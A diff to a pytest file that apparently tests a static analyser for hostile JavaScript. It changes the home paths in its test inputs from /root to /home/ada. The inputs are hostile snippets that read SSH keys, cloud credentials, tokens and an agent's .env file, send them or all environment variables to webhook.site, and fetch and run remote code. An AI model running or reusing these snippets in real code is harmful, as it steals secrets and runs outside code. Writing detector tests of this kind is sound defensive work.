@@ -110,8 +110,8 @@ def test_running_what_was_decoded_shows_the_plain_text(code: str) -> None:
         ("const fs = require('fs'), os = require('os'), path = require('path');\nfs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))", "ssh keys"),
         ("import { readFile } from 'node:fs/promises';\nawait readFile(`${process.env.HOME}/.aws/credentials`)", "cloud credentials"),
         ("import { promises as fs } from 'fs';\nimport { homedir } from 'os';\nfs.readFile(homedir() + '/.netrc')", "saved tokens"),
-        ("const fs = require('fs');\nfor (const f of ['.bash_history']) fs.readFileSync('/root/' + f)", "shell history"),
-        ("await Deno.readTextFile('/root/.openclaw/.env')", "the agent's own secrets"),
+        ("const fs = require('fs');\nfor (const f of ['.bash_history']) fs.readFileSync('/home/ada/' + f)", "shell history"),
+        ("await Deno.readTextFile('/home/ada/.openclaw/.env')", "the agent's own secrets"),
         ("const k = require('keytar'); k.findCredentials('x')", "a password store"),
     ],
 )  # fmt: skip
@@ -158,7 +158,7 @@ def test_an_environment_for_a_process_is_no_reading_of_it(code: str) -> None:
     assert Act.READ_ALL_ENV not in acts(read_javascript(code))
 
 
-READ_KEY = "const fs = require('fs'); const k = fs.readFileSync('/root/.ssh/id_rsa', 'utf8');\n"
+READ_KEY = "const fs = require('fs'); const k = fs.readFileSync('/home/ada/.ssh/id_rsa', 'utf8');\n"
 
 
 @pytest.mark.parametrize(
@@ -170,8 +170,8 @@ READ_KEY = "const fs = require('fs'); const k = fs.readFileSync('/root/.ssh/id_r
         (READ_KEY + "const f = new FormData(); f.append('x', k);\nrequire('axios').post('https://webhook.site/0', f);", "ssh keys"),
         ("fetch('https://webhook.site/0', {method: 'POST', body: JSON.stringify(process.env)})", "all variables"),
         ("fetch('https://webhook.site/0', {method: 'POST', body: process.env.GITHUB_TOKEN})", "GITHUB_TOKEN"),
-        ("const fs = require('fs');\nfs.readFile('/root/.ssh/id_rsa', (e, d) => { fetch('https://webhook.site/0', {method: 'POST', body: d}); });", "ssh keys"),
-        ("const i = new Image();\nconst c = require('fs').readFileSync('/root/.ssh/id_rsa');\ni.src = 'https://webhook.site/0?c=' + c;", "ssh keys"),
+        ("const fs = require('fs');\nfs.readFile('/home/ada/.ssh/id_rsa', (e, d) => { fetch('https://webhook.site/0', {method: 'POST', body: d}); });", "ssh keys"),
+        ("const i = new Image();\nconst c = require('fs').readFileSync('/home/ada/.ssh/id_rsa');\ni.src = 'https://webhook.site/0?c=' + c;", "ssh keys"),
     ],
 )  # fmt: skip
 def test_a_secret_that_is_sent_is_a_leak(code: str, detail: str) -> None:
@@ -275,11 +275,11 @@ def test_ordinary_code_has_no_severe_fact(code: str) -> None:
 def test_typescript_is_read_too() -> None:
     code = """import { readFileSync } from "node:fs";
 interface Options { url: string }
-export async function send<T extends Options>(options: T, key = readFileSync("/root/.ssh/id_rsa")): Promise<void> {
+export async function send<T extends Options>(options: T, key = readFileSync("/home/ada/.ssh/id_rsa")): Promise<void> {
   const body: string = (key as Buffer).toString()!;
   await fetch("https://webhook.site/0", { method: "POST", body } satisfies RequestInit);
 }
-send({ url: "" }, readFileSync("/root/.ssh/id_rsa") as Buffer);"""
+send({ url: "" }, readFileSync("/home/ada/.ssh/id_rsa") as Buffer);"""
 
     facts = read_javascript(code, typescript=True)
 
@@ -411,14 +411,14 @@ def test_no_form_of_the_language_hides_what_stands_in_it(code: str) -> None:
         ("const ws = new WebSocket('wss://webhook.site/0'); ws.onmessage = e => eval(e.data)", Act.RUN_REMOTE),
         ("const ws = new WebSocket('wss://webhook.site/0'); ws.on('message', m => eval(m))", Act.RUN_REMOTE),
         ("const fs = require('fs'), https = require('https'), cp = require('child_process');\nhttps.get('https://webhook.site/0', r => { r.pipe(fs.createWriteStream('/tmp/a')); cp.spawn('/tmp/a'); })", Act.RUN_REMOTE),
-        ("const fs = require('fs'); const r = require('https').request({hostname: 'webhook.site', method: 'POST'}); fs.createReadStream('/root/.ssh/id_rsa').pipe(r)", Act.LEAK),
+        ("const fs = require('fs'); const r = require('https').request({hostname: 'webhook.site', method: 'POST'}); fs.createReadStream('/home/ada/.ssh/id_rsa').pipe(r)", Act.LEAK),
         ("new Deno.Command('git', {args: ['status']})", Act.RUN),
         ("const r = new Request('https://webhook.site/0', {method: 'POST', body: 'a'}); fetch(r)", Act.SEND),
         ("const got = require('got'); got.post('https://webhook.site/0', {json: a})", Act.SEND),
         ("(() => {}).constructor(code)()", Act.RUN_DYNAMIC),
         ("const u = 'https://'.concat('webhook.site', '/0'); fetch(u, {method: 'POST', body: 'a'})", Act.SEND),
         ("const e = Object.assign({}, process.env); fetch('https://webhook.site/0', {method: 'POST', body: JSON.stringify(e)})", Act.LEAK),
-        ("const fs = require('fs'); fs.readdirSync('/root/.ssh').forEach(f => fs.readFileSync('/root/.ssh/' + f))", Act.READ_SECRET),
+        ("const fs = require('fs'); fs.readdirSync('/home/ada/.ssh').forEach(f => fs.readFileSync('/home/ada/.ssh/' + f))", Act.READ_SECRET),
         ("const cp = require('child_process'); cp.spawn('ls -l', {shell: true})", Act.RUN),
         ("let [a, b = 'https://webhook.site/0'] = c; fetch(`https://webhook.site/${a}`)", Act.FETCH),
         ("import {$} from 'zx'; await $`git status`", Act.RUN),
